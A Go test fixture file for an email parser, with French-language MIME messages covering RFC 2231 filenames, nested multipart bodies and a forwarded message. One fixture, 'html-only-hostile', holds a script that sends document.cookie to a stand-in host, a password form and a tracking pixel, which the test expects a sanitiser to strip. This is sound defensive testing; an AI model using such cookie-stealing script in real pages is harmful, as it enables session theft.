package mailcorpus

// mimeFixtures cover multipart structures, attachment names and HTML.
func mimeFixtures() []Fixture {
	return []Fixture{
		{
			Name: "rfc2231-utf8-filename",
			Raw: crlf(`From: Courtier <crm@courtier.test>
To: Marie Durand <marie.durand@acme-industrie.fr>
Subject: Convention de formation
Date: Wed, 18 Mar 2026 15:00:00 +0100
Message-ID: <convention-0318@courtier.test>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="=_mixed_0318"

This is a multi-part message in MIME format.

--=_mixed_0318
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Bonjour Marie,

Veuillez trouver ci-joint la convention de formation à nous retourner signée.

--=_mixed_0318
Content-Type: application/pdf
Content-Disposition: attachment;
 filename*=UTF-8''Convention%20de%20formation%20%E2%80%93%20%C3%A9t%C3%A9%202026.pdf
Content-Transfer-Encoding: base64

` + b64(fakePDF("Convention", 1800)) + `--=_mixed_0318--
`),
			Want: Want{
				MessageID:    "convention-0318@courtier.test",
				Subject:      "Convention de formation",
				TextContains: []string{"la convention de formation à nous retourner signée"},
				Attachments:  []string{"Convention de formation – été 2026.pdf"},
				From:         Broker,
				Participants: []string{Broker, Client},
			},
		},
		{
			Name: "rfc2231-continuations",
			Raw: crlf(`From: FormaPlus <contact@formaplus.fr>
To: crm@courtier.test
Subject: Programme et reçu
Date: Wed, 18 Mar 2026 16:10:00 +0100
Message-ID: <programme-0318@formaplus.fr>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b-cont"

--b-cont
Content-Type: text/plain; charset=utf-8

Voici le programme détaillé et le reçu de l'acompte.
--b-cont
Content-Type: application/pdf;
 name*0*=UTF-8''Programme%20d%C3%A9taill%C3%A9%20;
 name*1*=%E2%80%93%20Management%20d%E2%80%99%C3%A9quipe;
 name*2=".pdf"
Content-Disposition: attachment;
 filename*0*=UTF-8''Programme%20d%C3%A9taill%C3%A9%20;
 filename*1*=%E2%80%93%20Management%20d%E2%80%99%C3%A9quipe;
 filename*2=".pdf"
Content-Transfer-Encoding: base64

` + b64(fakePDF("Programme", 900)) + `--b-cont
Content-Type: application/pdf
Content-Disposition: attachment; filename="recu.pdf";
 filename*=iso-8859-1'fr'Re%E7u%20d%27acompte%20sign%E9.pdf
Content-Transfer-Encoding: base64

` + b64(fakePDF("Recu", 700)) + `--b-cont--
`),
			Want: Want{
				MessageID:    "programme-0318@formaplus.fr",
				Subject:      "Programme et reçu",
				TextContains: []string{"le programme détaillé et le reçu"},
				Attachments:  []string{"Programme détaillé – Management d’équipe.pdf", "Reçu d'acompte signé.pdf"},
				From:         Provider,
				Participants: []string{Broker, Provider},
			},
		},
		{
			// What real mailers send instead of RFC 2231: raw UTF-8 in a
			// quoted filename, RFC 2047 inside quotes, and no name at all.
			Name: "non-standard-filenames",
			Raw: crlf(`From: Marie Durand <marie.durand@acme-industrie.fr>
To: crm@courtier.test
Subject: Documents signés
Date: Thu, 19 Mar 2026 09:40:00 +0100
Message-ID: <docs-signes@acme-industrie.fr>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="----=_Part_12_345.678"

------=_Part_12_345.678
Content-Type: text/plain; charset=utf-8

Ci-joint le devis signé, la feuille d'émargement et une photo de la salle.
------=_Part_12_345.678
Content-Type: application/pdf; name="Devis signé ACME.pdf"
Content-Disposition: attachment; filename="Devis signé ACME.pdf"
Content-Transfer-Encoding: base64

` + b64(fakePDF("Devis", 600)) + `------=_Part_12_345.678
Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;
 name="=?UTF-8?Q?Feuille_d=27=C3=A9margement_mars.xlsx?="
Content-Transfer-Encoding: base64

` + b64([]byte("PK\x03\x04 fake xlsx")) + `------=_Part_12_345.678
Content-Type: image/png
Content-Disposition: attachment
Content-Transfer-Encoding: base64

` + b64(pngPixel) + `------=_Part_12_345.678--
`),
			Want: Want{
				MessageID:    "docs-signes@acme-industrie.fr",
				Subject:      "Documents signés",
				TextContains: []string{"la feuille d'émargement"},
				Attachments:  []string{"Devis signé ACME.pdf", "Feuille d'émargement mars.xlsx", "attachment-3.png"},
				From:         Client,
				Participants: []string{Broker, Client},
			},
		},
		{
			Name: "multipart-alternative",
			Raw: crlf(`From: FormaPlus <contact@formaplus.fr>
To: Courtier <crm@courtier.test>
Subject: Dates disponibles
Date: Thu, 19 Mar 2026 11:00:00 +0100
Message-ID: <alt-0319@formaplus.fr>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="alt-0319"

--alt-0319
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Nos prochaines dates (version texte) :
- 7 et 8 avril =C3=A0 Lyon
- 12 et 13 mai =C3=A0 Grenoble
--alt-0319
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

<html><head><title>Dates</title></head><body>
<p>Nos <strong>prochaines dates</strong> :</p>
<ul><li>7 et 8 avril =C3=A0 Lyon</li><li>12 et 13 mai =C3=A0 Grenoble</li></ul>
</body></html>
--alt-0319--
`),
			Want: Want{
				MessageID:    "alt-0319@formaplus.fr",
				Subject:      "Dates disponibles",
				TextContains: []string{"Nos prochaines dates (version texte) :", "- 7 et 8 avril à Lyon"},
				HTMLContains: []string{"<strong>prochaines dates</strong>", "<li>12 et 13 mai à Grenoble</li>"},
				From:         Provider,
				Participants: []string{Broker, Provider},
			},
		},
		{
			Name: "nested-mixed-alternative-related",
			Raw: crlf(`From: FormaPlus <contact@formaplus.fr>
To: Courtier <crm@courtier.test>
Subject: Catalogue 2026
Date: Fri, 20 Mar 2026 10:00:00 +0100
Message-ID: <catalogue-2026@formaplus.fr>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer"

--outer
Content-Type: multipart/alternative; boundary="middle"

--middle
Content-Type: text/plain; charset=utf-8

Bonjour, voici notre catalogue 2026. FormaPlus
--middle
Content-Type: multipart/related; boundary="inner"; type="text/html"

--inner
Content-Type: text/html; charset=utf-8

<p>Bonjour, voici notre <em>catalogue 2026</em>.</p>
<p><img src="cid:logo-formaplus@formaplus.fr" alt="FormaPlus"></p>
--inner
Content-Type: image/png; name="logo.png"
Content-Disposition: inline; filename="logo.png"
Content-ID: <logo-formaplus@formaplus.fr>
Content-Transfer-Encoding: base64

` + b64(pngPixel) + `--inner--

--middle--

--outer
Content-Type: application/pdf; name="Catalogue 2026.pdf"
Content-Disposition: attachment; filename="Catalogue 2026.pdf"
Content-Transfer-Encoding: base64

` + b64(fakePDF("Catalogue", 2500)) + `--outer--
`),
			Want: Want{
				MessageID:    "catalogue-2026@formaplus.fr",
				Subject:      "Catalogue 2026",
				TextContains: []string{"voici notre catalogue 2026. FormaPlus"},
				HTMLContains: []string{`<img src="cid:logo-formaplus@formaplus.fr" alt="FormaPlus">`, "<em>catalogue 2026</em>"},
				Attachments:  []string{"logo.png", "Catalogue 2026.pdf"},
				From:         Provider,
				Participants: []string{Broker, Provider},
			},
		},
		{
			Name: "html-only-hostile",
			Raw: crlf(`From: Formations Inconnues <newsletter@inconnu.example>
To: crm@courtier.test
Subject: Offre spéciale : -30 % sur toutes nos formations
Date: Sat, 21 Mar 2026 07:00:00 +0000
Message-ID: <nl-2026-03@inconnu.example>
List-Id: Lettre d'information <news.inconnu.example>
List-Unsubscribe: <https://inconnu.example/desabonnement>
Precedence: bulk
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<!DOCTYPE html>
<html><head><style>body { background: url(https://inconnu.example/bg.png) }</style>
<script>document.location = 'https://inconnu.example/steal?c=' + document.cookie;</script></head>
<body onload="track()">
<h1>Offre sp&eacute;ciale</h1>
<p>Profitez de <b>-30&nbsp;%</b> sur toutes nos formations<br>jusqu'au 31 mars.</p>
<p><a href="https://inconnu.example/offre" onclick="steal()">Voir l'offre</a></p>
<form action="https://inconnu.example/login"><input name="password"></form>
<iframe src="https://inconnu.example/frame"></iframe>
<img src="https://pixel.inconnu.example/open.gif?id=crm" width="1" height="1">
</body></html>
`),
			Want: Want{
				MessageID:       "nl-2026-03@inconnu.example",
				Subject:         "Offre spéciale : -30 % sur toutes nos formations",
				TextContains:    []string{"Offre spéciale", "Profitez de -30 % sur toutes nos formations\njusqu'au 31 mars.", "Voir l'offre"},
				HTMLContains:    []string{`<a href="https://inconnu.example/offre" rel="noopener noreferrer nofollow" target="_blank">Voir l&#39;offre</a>`},
				HTMLNotContains: []string{"<script", "document.cookie", "onclick", "onload", "<style", "background", "<form", "<input", "<iframe", "pixel.inconnu.example"},
				From:            Unknown,
				Participants:    []string{Broker, Unknown},
			},
		},
		{
			Name: "message-rfc822-attached",
			Raw: crlf(`From: Marie Durand <marie.durand@acme-industrie.fr>
To: crm@courtier.test
Subject: TR: Proposition FormaPlus
Date: Mon, 23 Mar 2026 08:30:00 +0100
Message-ID: <fwd-0323@acme-industrie.fr>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="fwd"

--fwd
Content-Type: text/plain; charset=utf-8

Je vous transfère la proposition reçue directement de FormaPlus.
--fwd
Content-Type: message/rfc822
Content-Disposition: attachment

From: FormaPlus <contact@formaplus.fr>
To: Marie Durand <marie.durand@acme-industrie.fr>
Subject: =?UTF-8?Q?Proposition_r=C3=A9vis=C3=A9e?=
Date: Fri, 20 Mar 2026 18:00:00 +0100
Message-ID: <proposition-revisee@formaplus.fr>
Content-Type: text/plain; charset=utf-8

Voici notre proposition révisée.
--fwd--
`),
			Want: Want{
				MessageID:    "fwd-0323@acme-industrie.fr",
				Subject:      "TR: Proposition FormaPlus",
				TextContains: []string{"Je vous transfère la proposition"},
				Attachments:  []string{"Proposition révisée.eml"},
				From:         Client,
				Participants: []string{Broker, Client},
			},
		},
	}
}
